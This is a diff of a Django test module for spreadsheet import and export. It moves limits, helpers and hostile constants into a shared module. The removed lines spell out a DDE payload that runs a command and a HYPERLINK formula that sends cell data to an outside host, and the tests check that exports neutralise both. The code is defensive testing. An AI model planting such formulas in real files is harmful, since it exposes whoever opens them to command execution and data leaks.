@@ -15,11 +15,6 @@ from __future__ import annotations
 
 import html
 import io
-import re
-import time
-import tracemalloc
-import zipfile
-from collections.abc import Callable
 from typing import Any
 
 import pytest
@@ -29,7 +24,19 @@ from django.urls import reverse
 from openpyxl import load_workbook
 
 from parindex.campaigns.models import Campaign
-from parindex.exchange.tests.hostile import entity_workbook, million_cells, not_a_zip
+from parindex.exchange.tests.hostile import (
+    DDE,
+    HYPERLINK,
+    MAX_PEAK_BYTES,
+    MAX_SECONDS,
+    MIB,
+    assert_no_formula,
+    entity_workbook,
+    measure,
+    million_cells,
+    not_a_zip,
+)
+from parindex.exchange.tests.hostile import lifted_part_limits as lifted
 from parindex.units.models import Unit
 
 from ..context import context_for
@@ -39,41 +46,7 @@ from ..services import assignment_set, entry_save
 from ..views.excel import _session_key
 from ..xlsx import COL_CODE, COL_INPUT, COL_NA, COL_NOTE, COL_VALUE, SHEET, read_import
 
-MIB = 1024 * 1024
-MAX_SECONDS = 2.0
-MAX_PEAK_BYTES = 50 * MIB
-HYPERLINK = '=HYPERLINK("http://x/?"&A1,"Bấm vào đây")'
-DDE = "=cmd|' /C calc'!A0"
-FORMULA_ELEMENT = re.compile(rb"<(?:[A-Za-z0-9_]+:)?f[\s/>]")
 REFUSED_UNREAD = "tệp không được đọc"
-
-
-def _measure(call: Callable[[], Any]) -> tuple[Any, float, int]:
-    """(result, wall seconds without tracemalloc, peak traced bytes of a second run)."""
-    start = time.perf_counter()
-    result = call()
-    seconds = time.perf_counter() - start
-    tracemalloc.start()
-    try:
-        call()
-        _current, peak = tracemalloc.get_traced_memory()
-    finally:
-        tracemalloc.stop()
-    return result, seconds, peak
-
-
-def _assert_no_formula(data: bytes) -> None:
-    with zipfile.ZipFile(io.BytesIO(data)) as archive:
-        sheets = [
-            n for n in archive.namelist() if n.startswith("xl/worksheets/") and n.endswith(".xml")
-        ]
-        assert sheets
-        for name in sheets:
-            assert not FORMULA_ELEMENT.search(archive.read(name)), f"a formula in {name}"
-    for ws in load_workbook(io.BytesIO(data)).worksheets:
-        for row in ws.iter_rows():
-            for cell in row:
-                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
 
 
 def _rows(ws: Any) -> dict[tuple[str, str], int]:
@@ -100,12 +73,7 @@ def _page(response: Any) -> str:
 
 @pytest.fixture
 def lifted_part_limits(settings: Any) -> None:
-    """Part-size limits high enough that the 3M-cell sheet is streamed and counted."""
-    settings.SHEET_LIMITS = {
-        **settings.SHEET_LIMITS,
-        "max_part_bytes": 200 * MIB,
-        "max_total_bytes": 400 * MIB,
-    }
+    settings.SHEET_LIMITS = lifted(settings.SHEET_LIMITS)
 
 
 # --- Hostile uploads -------------------------------------------------------------------------
@@ -123,7 +91,7 @@ def test_three_million_cells_are_refused_fast_in_bounded_memory(
     assert client.get(reverse("assessments:import", args=[a.pk])).status_code == 200  # warm up
     data = million_cells()
     before = Entry.objects.count()
-    response, seconds, peak = _measure(lambda: _post(client, a.pk, data))
+    response, seconds, peak = measure(lambda: _post(client, a.pk, data))
     print(f"entries import, 3M cells ({limits}): {seconds:.3f} s, peak {peak / MIB:.1f} MiB")
     page = _page(response)
     assert "Tệp quá lớn" in page
@@ -255,7 +223,7 @@ def test_formula_like_justifications_are_exported_as_text_and_read_back_unchange
     response = client.get(reverse("assessments:export", args=[a.pk]))
     assert response.status_code == 200
     data = response.content
-    _assert_no_formula(data)
+    assert_no_formula(data)
 
     ws = load_workbook(io.BytesIO(data))[SHEET]
     rows = _rows(ws)
@@ -313,7 +281,7 @@ def test_progress_board_keeps_formula_like_names_as_text(world: Any) -> None:
     url = reverse("assessments:board", args=[world.campaign.slug])
     export = client.get(url + "?xuat=xlsx")
     assert export.status_code == 200
-    _assert_no_formula(export.content)
+    assert_no_formula(export.content)
     ws = load_workbook(io.BytesIO(export.content)).active
     names = {ws.cell(row=r, column=3).value for r in range(5, ws.max_row + 1)}
     assert names == {HYPERLINK, DDE}
